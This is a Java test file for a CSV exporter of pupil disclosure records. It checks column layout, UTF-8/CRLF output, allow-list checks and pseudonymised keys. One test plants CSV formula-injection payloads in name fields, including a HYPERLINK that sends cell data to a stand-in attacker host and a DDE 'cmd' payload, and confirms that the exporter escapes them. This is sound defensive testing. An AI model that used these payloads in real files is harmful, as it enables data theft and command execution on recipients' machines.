package org.pupilflow.adapters.filedrop;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

import org.apache.avro.Schema;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.pupilflow.census.Names;
import org.pupilflow.census.Parent;
import org.pupilflow.sharing.PupilDisclosure;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

class DisclosureCsvTest {

    private static final List<String> YOUTH_SUPPORT_COLUMNS = List.of(
            "disclosureId", "returnId", "pupilKey", "deleteBy",
            "identity.upn", "identity.formerUpn", "identity.uln",
            "names.legalSurname", "names.legalForename", "names.middleNames", "names.preferredSurname", "names.preferredForename", "names.formerSurname",
            "dateOfBirth", "sex",
            "address.lines", "address.town", "address.postcode", "address.uprn",
            "parents", "telephones",
            "school.laNumber", "school.establishmentNumber", "school.urn", "school.name", "school.phase",
            "enrolment.ncYearActual", "enrolment.enrolmentStatus", "enrolment.entryDate",
            "specialEducationalNeeds.provision", "specialEducationalNeeds.startDate", "specialEducationalNeeds.needs");

    private final DisclosureCsv youthSupport = new DisclosureCsv(NorfolkDisclosures.rule("youth-support").fields());

    @Test
    void headerIsTheEnvelopeThenTheAllowListFlattenedFromTheSchema() throws IOException {
        List<PupilDisclosure> batch = NorfolkDisclosures.of("youth-support");

        DisclosureCsv.Rendered csv = youthSupport.render(batch);

        assertThat(csv.columns()).isEqualTo(YOUTH_SUPPORT_COLUMNS);
        assertThat(parse(csv).getHeaderNames()).isEqualTo(YOUTH_SUPPORT_COLUMNS);
    }

    @Test
    void everyRecordReadsBackAsItsValuesWithArraysAsJsonAndIsoDates() throws IOException {
        List<PupilDisclosure> batch = NorfolkDisclosures.of("youth-support");
        assertThat(batch).hasSizeGreaterThan(20);

        List<CSVRecord> rows = parse(youthSupport.render(batch)).getRecords();

        assertThat(rows).hasSameSizeAs(batch);
        JsonMapper json = JsonMapper.builder().build();
        for (int i = 0; i < batch.size(); i++) {
            PupilDisclosure disclosure = batch.get(i);
            CSVRecord row = rows.get(i);
            assertThat(row.get("disclosureId")).isEqualTo(disclosure.getDisclosureId());
            assertThat(row.get("returnId")).isEqualTo(disclosure.getReturnId());
            assertThat(row.get("pupilKey")).isEqualTo(disclosure.getIdentity().getUpn());
            assertThat(row.get("deleteBy")).isEqualTo(disclosure.getDeleteBy() == null ? "" : disclosure.getDeleteBy().toString());
            assertThat(row.get("names.legalSurname")).isEqualTo(disclosure.getNames().getLegalSurname());
            assertThat(row.get("dateOfBirth")).isEqualTo(disclosure.getDateOfBirth().toString()).matches("\\d{4}-\\d{2}-\\d{2}");
            assertThat(row.get("address.postcode")).isEqualTo(disclosure.getAddress().getPostcode());
            // Youth support takes pupils aged 13 or over from every kind of school (secondary, special, ...).
            assertThat(row.get("school.phase")).isEqualTo(disclosure.getSchool().getPhase().name());

            JsonNode lines = json.readTree(row.get("address.lines"));
            assertThat(lines.size()).isEqualTo(disclosure.getAddress().getLines().size());
            assertThat(lines.get(0).asString()).isEqualTo(disclosure.getAddress().getLines().get(0));
            JsonNode parents = json.readTree(row.get("parents"));
            assertThat(parents.isArray()).isTrue();
            assertThat(parents.size()).isEqualTo(disclosure.getParents().size());
            for (int p = 0; p < parents.size(); p++) {
                Parent parent = disclosure.getParents().get(p);
                assertThat(parents.get(p).get("surname").asString()).isEqualTo(parent.getSurname());
                assertThat(parents.get(p).get("order").asInt()).isEqualTo(parent.getOrder());
                assertThat(parents.get(p).get("parentalResponsibility").asBoolean()).isEqualTo(parent.getParentalResponsibility());
            }
            assertThat(json.readTree(row.get("telephones")).size()).isEqualTo(disclosure.getTelephones().size());
        }
    }

    @Test
    void theFileIsUtf8WithCrlfAndNoByteOrderMark() {
        List<PupilDisclosure> batch = NorfolkDisclosures.of("youth-support").subList(0, 1);
        batch.get(0).getNames().setLegalForename("Zoë Łucja");

        byte[] bytes = youthSupport.render(batch).content();

        String text = new String(bytes, StandardCharsets.UTF_8);
        assertThat(text).startsWith("disclosureId,returnId,pupilKey,deleteBy,").contains("Zoë Łucja").endsWith("\r\n");
        assertThat(text.split("\r\n", -1)).hasSize(3); // header, one row, nothing after the last CRLF
        assertThat(bytes[0]).isEqualTo((byte) 'd');
    }

    @Test
    void textThatASpreadsheetWouldRunAsAFormulaIsPrefixedWithAQuote() throws IOException {
        PupilDisclosure disclosure = NorfolkDisclosures.of("youth-support").get(0);
        Names names = disclosure.getNames();
        names.setLegalSurname("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
        names.setLegalForename("+1");
        names.setMiddleNames("@SUM(A1:A9)");
        names.setPreferredSurname("-2+3");
        names.setPreferredForename("\tcmd");
        names.setFormerSurname("\rcmd");
        disclosure.getParents().get(0).setSurname("=cmd|' /C calc'!A0");

        CSVRecord row = parse(youthSupport.render(List.of(disclosure))).getRecords().get(0);

        assertThat(row.get("names.legalSurname")).isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
        assertThat(row.get("names.legalForename")).isEqualTo("'+1");
        assertThat(row.get("names.middleNames")).isEqualTo("'@SUM(A1:A9)");
        assertThat(row.get("names.preferredSurname")).isEqualTo("'-2+3");
        assertThat(row.get("names.preferredForename")).isEqualTo("'\tcmd");
        assertThat(row.get("names.formerSurname")).isEqualTo("'\rcmd");
        // A JSON cell starts with '[', which no spreadsheet runs; its content stays exact.
        assertThat(row.get("parents")).startsWith("[").contains("\"surname\":\"=cmd|' /C calc'!A0\"");
    }

    @Test
    void numbersAreNeverPrefixedButTextThatLooksLikeANegativeNumberIs() {
        assertThat(DisclosureCsv.cell(-3, Schema.create(Schema.Type.INT))).isEqualTo("-3");
        assertThat(DisclosureCsv.cell(-2.5d, Schema.create(Schema.Type.DOUBLE))).isEqualTo("-2.5");
        assertThat(DisclosureCsv.cell("-3", Schema.create(Schema.Type.STRING))).isEqualTo("'-3");
        assertThat(DisclosureCsv.cell("O'Brien", Schema.create(Schema.Type.STRING))).isEqualTo("O'Brien");
    }

    @Test
    void commasQuotesAndLineBreaksInValuesRoundTrip() throws IOException {
        PupilDisclosure disclosure = NorfolkDisclosures.of("youth-support").get(0);
        String awkward = "Smith, \"Junior\"\r\nsecond line\nthird, line";
        disclosure.getNames().setLegalSurname(awkward);
        disclosure.getAddress().setLines(List.of("1, \"The\" Street", "Flat 2\nrear"));

        List<CSVRecord> rows = parse(youthSupport.render(List.of(disclosure))).getRecords();

        assertThat(rows).hasSize(1);
        assertThat(rows.get(0).get("names.legalSurname")).isEqualTo(awkward);
        assertThat(JsonMapper.builder().build().readTree(rows.get(0).get("address.lines")).get(1).asString()).isEqualTo("Flat 2\nrear");
    }

    @Test
    void aUnitTheRecordDoesNotCarryGivesEmptyCellsUnderTheSameHeader() throws IOException {
        PupilDisclosure restricted = NorfolkDisclosures.of("youth-support").get(0);
        restricted.setParents(null);
        restricted.setTelephones(null);
        restricted.setSchool(null);

        CSVParser parsed = parse(youthSupport.render(List.of(restricted)));
        CSVRecord row = parsed.getRecords().get(0);

        assertThat(parsed.getHeaderNames()).isEqualTo(YOUTH_SUPPORT_COLUMNS);
        assertThat(row.get("parents")).isEmpty();
        assertThat(row.get("telephones")).isEmpty();
        assertThat(List.of(row.get("school.laNumber"), row.get("school.name"), row.get("school.phase"))).containsOnly("");
        assertThat(row.get("names.legalSurname")).isNotEmpty();
    }

    @Test
    void aPseudonymisedRecipientIsKeyedByThePseudonym() throws IOException {
        List<PupilDisclosure> batch = NorfolkDisclosures.of("nhs-ncmp-research");
        assertThat(batch).isNotEmpty();

        List<CSVRecord> rows = parse(new DisclosureCsv(NorfolkDisclosures.rule("nhs-ncmp-research").fields()).render(batch)).getRecords();

        assertThat(rows.get(0).get("pupilKey")).isEqualTo(batch.get(0).getPupilPseudonym()).matches("[0-9a-f]{64}");
        assertThat(rows.get(0).toMap()).doesNotContainKeys("identity.upn", "names.legalSurname");
    }

    @Test
    void theSameInputGivesTheSameBytesWhateverTheAllowListOrder() throws IOException {
        List<PupilDisclosure> batch = NorfolkDisclosures.of("youth-support");
        List<String> reversed = new ArrayList<>(NorfolkDisclosures.rule("youth-support").fields());
        java.util.Collections.reverse(reversed);

        byte[] first = youthSupport.render(batch).content();
        byte[] again = youthSupport.render(NorfolkDisclosures.of("youth-support")).content();
        ByteArrayOutputStream streamed = new ByteArrayOutputStream();
        new DisclosureCsv(reversed).write(batch, streamed);

        assertThat(again).isEqualTo(first);
        assertThat(streamed.toByteArray()).isEqualTo(first);
    }

    @Test
    void refusesARecordCarryingAUnitOutsideTheAllowList() {
        List<PupilDisclosure> batch = NorfolkDisclosures.of("youth-support");
        DisclosureCsv namesOnly = new DisclosureCsv(List.of("names", "dateOfBirth", "address"));

        assertThatThrownBy(() -> namesOnly.render(batch))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("'identity'").hasMessageContaining("allow-list");
    }

    @Test
    void refusesABatchMixingReturnsOrRecipients() {
        List<PupilDisclosure> batch = new ArrayList<>(NorfolkDisclosures.of("youth-support").subList(0, 3));
        batch.get(2).setReturnId("another-return");

        assertThatThrownBy(() -> youthSupport.render(batch)).isInstanceOf(IllegalArgumentException.class).hasMessageContaining("another-return");
    }

    @Test
    void refusesAnAllowListNamingSomethingThatIsNotACensusUnit() {
        assertThatThrownBy(() -> new DisclosureCsv(List.of("names", "disclosureId")))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("'disclosureId'");
    }

    private static CSVParser parse(DisclosureCsv.Rendered csv) throws IOException {
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(new String(csv.content(), StandardCharsets.UTF_8)));
    }
}
